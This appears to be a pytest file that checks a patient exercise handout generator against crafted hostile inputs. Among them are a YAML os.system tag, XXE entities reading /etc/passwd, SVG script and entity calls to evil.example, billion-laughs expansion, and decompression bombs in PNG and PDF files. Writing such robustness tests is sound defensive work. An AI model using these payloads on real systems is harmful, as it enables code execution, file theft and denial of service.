"""Files made to choke a reader: each is answered in one clear line, in bounded time and memory."""

from __future__ import annotations

import json
import struct
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from pathlib import Path

import pikepdf
import pytest
from PIL import Image

from tests.trust.libraries import own_library
from tests.trust.limits import MOST_MB, MOST_SECONDS, Ended, ended
from tests.trust.test_paths import change

MEGA = 1_900_000
DEEP = 100_000


@pytest.fixture(scope="session")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Ended:
    """What a plain handout takes."""
    found = ended("make", "--patient", "Ana", "--exercise", "bridge", cwd=tmp_path_factory.mktemp("plain"))
    assert found.code == 0, found.err
    return found


def held(found: Ended, plain: Ended, *codes: int, lines: int = 1) -> None:
    """Refused with one of the codes, in at most `lines` lines, within the bounds."""
    assert found.code in codes, (found.code, found.err[:2000])
    assert "Traceback" not in found.err
    assert len(found.err.splitlines()) <= lines, found.err[:2000]
    assert max(map(len, found.err.splitlines()), default=0) < 2000
    assert found.seconds < plain.seconds + MOST_SECONDS, found.seconds
    assert found.peak_mb < plain.peak_mb + MOST_MB, found.peak_mb


YAML: dict[str, bytes] = {
    "aliases": b"a: &a [x,x,x,x,x,x,x,x,x]\n"
    + b"".join(b"%c: &%c [%s]\n" % (98 + i, 98 + i, b",".join([b"*%c" % (97 + i)] * 9)) for i in range(9)),
    "alias of itself": b"patient: &a [*a]",
    "merge": b"patient: &a {name: x}\nb: {<<: *a}",
    "deep list": b"patient: " + b"[" * DEEP,
    "deep mapping": b"{a: " * DEEP,
    "deep block": b"".join(b" " * i + b"a:\n" for i in range(1800)),
    "deep keys": b"? " * DEEP,
    "huge text": b'patient: {name: "' + b"x" * MEGA + b'"}',
    "huge number": b"patient: {id: " + b"9" * MEGA + b"}",
    "huge key": b"x" * MEGA + b": 1",
    "huge exponent": b"print: {log_weeks: 1e999999999}",
    "too large": b"patient: {name: x}\n#" + b"x" * 50_000_000,
    "tags": b"patient: !!python/object/apply:os.system [touch owned]",
    "own tag": b"patient: !x {name: y}",
    "directive": b"%YAML 1.1\n%TAG ! tag:evil,2000:\n---\npatient: !x y",
    "documents": b"---\na: b\n" * 100_000,
    "null": b"patient: {name: A\0}",
    "utf-16": "patient: {name: Ana}".encode("utf-16"),
    "not text": bytes(range(256)) * 1000,
    "flow": b"exercises: [" + b"bridge," * 200_000 + b"]",
    "quotes": b'"' * MEGA,
    "colons": b":" * MEGA,
    "dashes": b"- " * 400_000,
    "question": b"? \n" * 400_000,
    "pipes": b"a: |9\n" * 200_000,
}
MANY: dict[str, bytes] = {
    "fields": b"".join(b"f%d: 1\n" % i for i in range(150_000)),
    "equal keys": b"a: 1\n" * 300_000,
    "exercises": b"exercises: [" + b",".join(b"brid%d" % i for i in range(150_000)) + b"]",
    "conditions": b"patient: {name: A, conditions: [" + b",".join(b"oste%d" % i for i in range(150_000)) + b"]}",
    "anchors": b"exercises: [" + b"&a x," * 300_000 + b"]",
}


def quick(cases: Mapping[str, object], *names: str) -> list[object]:
    """The names of all cases, those that are not quick for the slow run only."""
    return [pytest.param(name, marks=() if name in names else pytest.mark.slow) for name in cases]


@pytest.mark.parametrize("name", quick(YAML, "aliases", "deep list", "huge text", "tags"))
def test_yaml(name: str, tmp_path: Path, plain: Ended) -> None:
    (tmp_path / "p.yaml").write_bytes(YAML[name])
    held(ended("make", "p.yaml", cwd=tmp_path), plain, 3, lines=60)
    assert [path.name for path in tmp_path.iterdir()] == ["p.yaml"]


@pytest.mark.slow
@pytest.mark.parametrize("name", quick(MANY, "fields"))
def test_a_file_of_nothing_but_faults_is_told_in_a_screenful(name: str, tmp_path: Path, plain: Ended) -> None:
    (tmp_path / "p.yaml").write_bytes(MANY[name])
    held(ended("make", "p.yaml", cwd=tmp_path), plain, 3, lines=110)


CSV: dict[str, bytes] = {
    "open quote": b'name,exercises\n"Ana,bridge\n' + b"x,bridge\n" * 300,
    "open quotes": b"name,exercises\n" + (b'"' + b"x" * 400 + b"\n") * 250,
    "one line": b"name,exercises\n" + b"x" * 50_000_000,
    "header": b"name," + b"x," * 1_000_000,
    "columns": b"name,exercises\nAna,bridge" + b"," * 99_000,
    "items": b"name,exercises\nAna," + b"bridge 2x10;" * 8_000,
    "packet": b"name,packet\nAna," + b"1 " * 49_000,
    "clinics": b"name,clinic\nAna," + b";" * 98_000,
    "date": b"name,exercises,date\nAna,bridge,1" + b" " * 98_000 + b"!",
    "exercise": b"name,exercises\nAna," + b"ab " * 33_000,
    "quotes": b'name,exercises\n"' + b'""' * 49_000,
    "null": b"name,exercises\nA\0na,bridge\n",
    "zeros": b"\0" * 10_000_000,
    "separators": b"sep=,\n" + b",;\t" * 30_000,
}


@pytest.mark.parametrize("name", quick(CSV, "open quotes", "header"))
def test_roster(name: str, tmp_path: Path, plain: Ended) -> None:
    (tmp_path / "r.csv").write_bytes(CSV[name])
    found = ended("batch", "r.csv", "-o", "out", "--jobs", "1", "-q", cwd=tmp_path)
    held(found, plain, 3, 6, lines=600)


SPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(inside: str, head: str = "", attributes: str = 'viewBox="0 0 9 9"') -> bytes:
    return f"{head}<svg {SPACES} {attributes}>{inside}</svg>".encode()


LAUGHS = "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True))


RECT = '<rect width="9" height="9"/>'
COLOURS = "<stop offset='.1' stop-color='red'/><stop stop-color='blue'/>"
USE = '<use xlink:href="#a%d"/>'
SVG: dict[str, bytes] = {
    "entity": svg("<title>&e;</title>", '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    "laughs": svg("<title>&i;</title>", f"<!DOCTYPE svg [<!ENTITY a 'ha'>{LAUGHS}]>"),
    "parameter entity": svg(RECT, '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]>'),
    "script": svg(RECT + "<script>fetch('http://evil.example')</script>"),
    "handler": svg('<rect onload="x()" width="9" height="9"/>'),
    "foreign": svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
    "image": svg('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
    "use": svg('<use xlink:href="http://evil.example/x.svg#a"/>'),
    "link": svg(f'<a xlink:href="http://evil.example">{RECT}</a>'),
    "import": svg("<style>@import url(http://evil.example/x.css);</style>" + RECT),
    "url": svg('<rect width="9" height="9" fill="url(http://evil.example/x#a)"/>'),
    "style url": svg('<rect width="9" height="9" style="fill:url(file:///etc/passwd)"/>'),
    "not numbers": svg(RECT, attributes='viewBox="e e e e"'),
    "infinite box": svg(RECT, attributes='viewBox="0 0 1e999 1e999"'),
    "infinite": svg('<rect width="1e999" height="9"/>'),
    "infinite path": svg('<path d="M0 0L1e999 9z"/>'),
    "infinite transform": svg('<rect width="9" height="9" transform="scale(1e300) scale(1e300)"/>'),
    "stroke": svg('<rect width="9" height="9" stroke="red" stroke-width="1.2.3"/>'),
    "stroke infinite": svg(f'<rect width="9" height="9" stroke="red" stroke-width="{"9" * 400}"/>'),
    "backtracking": svg(f'<rect width="9" height="9" transform="a({"1" * 60}x"/>'),
    "comments": svg("<style>" + "/*" * 400_000 + "</style>" + RECT),
    "no braces": svg("<style>" + "a" * 900_000 + "</style>" + RECT),
    "open braces": svg("<style>" + "{" * 900_000 + "</style>" + RECT),
    "rules": svg(
        "<style>.a{" + "".join(f"p{i}:1;" for i in range(50_000)) + "}</style>" + '<rect class="a"/>' * 20_000
    ),
    "classes": svg("<style>.a{fill:red}</style><rect class='" + "a " * 400_000 + "' width='9' height='9'/>"),
    "points": svg('<path d="M0 0' + " 1 1" * 200_000 + '"/>'),
    "points of a polygon": svg('<polygon points="' + "1 1 " * 2_400_000 + '"/>'),
    "arcs of no length": svg('<path d="M0 0' + "a1 1 0 0 1 0 0" * 600_000 + '"/>'),
    "blanks copied": svg(f'<path id="a" d="M0 0h1v1z{" " * 5_000_000}"/>' + '<use href="#a"/>' * 14_000),
    "colours copied": svg(
        f"<linearGradient id='g'>{COLOURS * 32}</linearGradient><rect id='a' width='9' height='9' fill='url(#g)'/>"
        + '<use href="#a"/>' * 14_000
    ),
    "dashes": svg(f'<rect width="9" height="9" stroke="red" style="stroke-dasharray:{"1 " * 4_000}"/>'),
    "style": svg(f'<rect style="{"a:b;" * 2_400_000}" width="9" height="9"/>'),
    **{
        f"{name} {value[:4]}": svg(f'<rect stroke="red" {name}="{value}"/>')
        for name in ("width", "transform", "fill", "opacity", "stroke-dasharray")
        for value in ("1" * 300_000 + "!", "rgb(" + "1" * 300_000, "a" * 300_000)
    },
    "entities": svg(f"<g fill='{'&a;' * 200_000}'/>", f"<!DOCTYPE svg [<!ENTITY a '{'x' * 150}'>]>"),
    "fades": svg(
        "<linearGradient id='g'><stop/><stop stop-opacity='0'/></linearGradient>"
        + "<path fill='url(#g)' d='M0 0C1 2 3 4 5 6z'/>" * 15_000
    ),
    "see-through": svg("<g opacity='.5'>" + RECT * 15_000 + "</g>"),
    "clips": svg(
        "<clipPath id='c'>"
        + "<path d='M0 0h9l-1 1z'/>" * 10_000
        + "</clipPath>"
        + "<rect clip-path='url(#c)' width='9' height='9'/>" * 1_000
    ),
    "masks": svg("<mask id='m'>" + RECT * 100 + "</mask>" + f"<g mask='url(#m)'>{RECT}</g>" * 10_000),
    "copies": svg("".join(f"<g id='a{i}'>{USE % (i + 1) * 40}</g>" for i in range(8)) + "<g id='a8'/>"),
    "stops": svg(
        "<linearGradient id='g'>"
        + "<stop/>" * 10_000
        + "</linearGradient>"
        + "<rect fill='url(#g)' width='9' height='9'/>" * 10_000
    ),
    "deep": svg("<g>" * 150_000 + "</g>" * 150_000),
    "large": svg("<!--" + "x" * 11_000_000 + "-->" + RECT),
    "empty": b"",
    "zeros": b"\0" * 1000,
    "gzip": b"\x1f\x8b\x08" + b"\0" * 100,
}


@pytest.mark.slow
@pytest.mark.parametrize("name", quick(SVG, "entity", "backtracking", "points"))
def test_svg(name: str, tmp_path: Path, plain: Ended) -> None:
    own = own_library(tmp_path / "own")
    (own / "clinics/logo.svg").write_bytes(SVG[name])
    change(own / "clinics/own-clinic.yaml", logo="logo.svg")
    command = ("make", "--library", "own", "--clinic", "own-clinic", "--patient", "Ana", "--exercise", "bridge")
    harmless = name == "classes"  # large, but drawn within the bounds
    held(ended(*command, "-q", cwd=tmp_path), plain, 0 if harmless else 3)
    assert bool(list(tmp_path.glob("*.pdf"))) == harmless


def png(width: int, height: int, data: bytes = b"", extra: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + extra + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def text_chunk() -> bytes:
    body = b"k\0\0" + zlib.compress(b"x" * 300_000_000, 9)
    return struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))


PICTURES: dict[str, Callable[[], bytes]] = {
    "declared": lambda: png(20_000, 18_000),
    "declared beyond": lambda: png(2**31 - 1, 2**31 - 1),
    "nothing": lambda: png(0, 0),
    "half": lambda: png(100, 100, zlib.compress(b"\0" * 100)),
    "inflated": lambda: png(10, 10, zlib.compress(b"\0" * 300_000_000, 9)),
    "words": lambda: png(10, 10, zlib.compress(b"\0" * 310), text_chunk()),
    "jpeg": lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\0" * 1000,
    "jpeg declared": lambda: (
        b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\x01\x11\0\x02\x11\0\x03\x11\0" + b"\0" * 50
    ),
    "exif": lambda: b"\xff\xd8\xff\xe1\0\x20Exif\0\0II*\0\xff\xff\xff\xff" + b"\xff" * 100,
    "gif": lambda: b"GIF89a\xff\xff\xff\xff",
    "eps": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n",
    "pdf": lambda: b"%PDF-1.7\n",
}


@pytest.mark.slow
@pytest.mark.parametrize("name", quick(PICTURES, "declared beyond", "words"))
def test_picture(name: str, tmp_path: Path, plain: Ended) -> None:
    own = own_library(tmp_path / "own")
    (own / "clinics/logo.png").write_bytes(PICTURES[name]())
    change(own / "clinics/own-clinic.yaml", logo="logo.png")
    command = ("make", "--library", "own", "--clinic", "own-clinic", "--patient", "Ana", "--exercise", "bridge")
    may = (0, 3) if name in ("inflated", "words") else (3,)
    held(ended(*command, "-q", cwd=tmp_path), plain, *may)


@pytest.mark.slow
@pytest.mark.parametrize(("mode", "side"), [("RGBA", 4898), ("RGB", 4898), ("P", 3464), ("CMYK", 3464)])
def test_the_largest_picture_that_is_taken(mode: str, side: int, tmp_path: Path, plain: Ended) -> None:
    own = own_library(tmp_path / "own")
    Image.new(mode, (side, side)).save(own / f"clinics/logo.{'jpg' if mode == 'CMYK' else 'png'}")
    change(own / "clinics/own-clinic.yaml", logo=f"logo.{'jpg' if mode == 'CMYK' else 'png'}")
    command = ("make", "--library", "own", "--clinic", "own-clinic", "--patient", "Ana", "--exercise", "bridge")
    held(ended(*command, "-q", cwd=tmp_path), plain, 0)


def pdf(change_it: Callable[[pikepdf.Pdf], None]) -> bytes:
    document = pikepdf.new()
    document.add_blank_page(page_size=(612, 792))
    change_it(document)
    whole = BytesIO()
    document.save(whole, static_id=True)
    return whole.getvalue()


def zeros(document: pikepdf.Pdf, count: int) -> pikepdf.Stream:
    stream = pikepdf.Stream(document, zlib.compress(b" " * count, 9))
    stream.Filter = pikepdf.Name.FlateDecode
    return stream


def _content_bomb(document: pikepdf.Pdf) -> None:
    document.pages[0].Contents = document.make_indirect(zeros(document, 1_000_000_000))


def _operators(document: pikepdf.Pdf) -> None:
    document.pages[0].Contents = document.make_stream(b"/P <</MCID 0>> BDC 0 0 m 1 1 l S EMC\n" * 400_000)


def _kids_loop(document: pikepdf.Pdf) -> None:
    document.Root.Pages.Kids.append(document.Root.Pages)


def _parent_loop(document: pikepdf.Pdf) -> None:
    document.Root.Pages.Parent = document.Root.Pages
    del document.pages[0].obj["/MediaBox"]


def _counted(document: pikepdf.Pdf) -> None:
    document.Root.Pages.Count = 2_000_000_000


def _resources_loop(document: pikepdf.Pdf) -> None:
    inner = document.make_indirect(pikepdf.Dictionary())
    inner.XObject = pikepdf.Dictionary(A=inner)
    document.pages[0].Resources = inner


def _attached(data: bytes) -> Callable[[pikepdf.Pdf], None]:
    def attach(document: pikepdf.Pdf) -> None:
        document.attachments["program.json"] = pikepdf.AttachedFileSpec(document, data, filename="program.json")

    return attach


def _attached_bomb(document: pikepdf.Pdf) -> None:
    _attached(b"{}")(document)
    names = document.Root.Names.EmbeddedFiles.Names
    names[1].EF.F = names[1].EF.UF = document.make_indirect(zeros(document, 1_000_000_000))


def _chained(document: pikepdf.Pdf) -> None:
    data = b" " * 30_000_000
    for _ in range(4):
        data = zlib.compress(data, 9)
    stream = pikepdf.Stream(document, data)
    stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode] * 4)
    document.pages[0].Contents = document.make_indirect(stream)


PDF: dict[str, Callable[[], bytes]] = {
    "not": lambda: b"hello",
    "head": lambda: b"%PDF-1.7\n",
    "half": lambda: pdf(lambda _: None)[:300],
    "zeros": lambda: b"%PDF-1.7\n" + b"\0" * 1_000_000,
    "content": lambda: pdf(_content_bomb),
    "operators": lambda: pdf(_operators),
    "kids": lambda: pdf(_kids_loop),
    "parent": lambda: pdf(_parent_loop),
    "count": lambda: pdf(_counted),
    "resources": lambda: pdf(_resources_loop),
    "chained": lambda: pdf(_chained),
    "xref loop": lambda: pdf(lambda _: None).replace(b"startxref", b"trailer<</Prev 9/Size 9>>startxref"),
    "attached": lambda: pdf(_attached_bomb),
    "deep json": lambda: pdf(_attached(b"[" * DEEP)),
    "deep objects": lambda: pdf(_attached(b'{"a":' * DEEP)),
    "huge number": lambda: pdf(_attached(b'{"format": ' + b"9" * 1_000_000 + b"}")),
    "huge list": lambda: pdf(_attached(json.dumps({"format": 2, "exercises": [{"bridge": 1}] * 200_000}).encode())),
    "empty lists": lambda: pdf(_attached(b'{"format": 2, "x": [' + b"[]," * 5_000_000 + b"[]]}")),
    "visits": lambda: pdf(_attached(b'{"format": 2, "history": [' + b"{}," * 1_500_000 + b"{}]}")),
    "overrides": lambda: pdf(
        _attached(json.dumps({"format": 2, "overrides": {key: {} for key in map(str, range(200000))}}).encode())
    ),
    "wrong types": lambda: pdf(
        _attached(json.dumps({"format": 2, "patient": 1, "exercises": [[]], "history": [1]}).encode())
    ),
    "nan": lambda: pdf(_attached(b'{"format": NaN}')),
    "surrogate": lambda: pdf(_attached(b'{"format": 2, "patient": {"name": "\\ud800"}, "exercises": []}')),
}


@pytest.mark.slow
@pytest.mark.parametrize("command", ["append", "revise"])
@pytest.mark.parametrize("name", quick(PDF, "content", "deep json", "empty lists"))
def test_pdf(command: str, name: str, tmp_path: Path, plain: Ended) -> None:
    (tmp_path / "x.pdf").write_bytes(PDF[name]())
    if command == "append":
        line = ("make", "--patient", "Ana", "--exercise", "bridge", "--append", "x.pdf", "-o", "new.pdf", "-q")
        codes = (0, 5)  # what is attached to a leaflet is left behind, so such a leaflet may be fine
    else:
        line, codes = ("revise", "x.pdf", "-o", "new.pdf", "-q"), (3, 5)
    found = ended(*line, cwd=tmp_path)
    held(found, plain, *codes, lines=110 if command == "revise" else 1)
    assert (found.code == 0) == (tmp_path / "new.pdf").exists()


PAGE = b'<!doctype html><meta charset="utf-8"><meta name="handouts-program" content="%s">'
PAGES: dict[str, Callable[[], bytes]] = {
    "attributes": lambda: PAGE % b"{}" + b"<a " + b"a " * 8_000_000,
    "quotes": lambda: b"<!doctype html><meta " + b"a='" * 8_000_000,
    "elements": lambda: b"<!doctype html>" + PAGE[15:-4] * 300_000,
    "deep json": lambda: PAGE % (b"[" * DEEP),
    "empty lists": lambda: PAGE % (b'{"x": [' + b"[]," * 5_000_000 + b"[]]}").replace(b'"', b"&quot;"),
    "entities": lambda: PAGE % (b"&quot;" * 1_900_000),
    "a letter of four bytes": lambda: PAGE % b"{}" + "\U0001f600".encode() + b" " * 45_000_000,
}


@pytest.mark.slow
@pytest.mark.parametrize("name", quick(PAGES, "attributes", "entities"))
def test_page(name: str, tmp_path: Path, plain: Ended) -> None:
    (tmp_path / "x.html").write_bytes(PAGES[name]())
    held(ended("revise", "x.html", "-o", "new.pdf", "-q", cwd=tmp_path), plain, 3, 5)
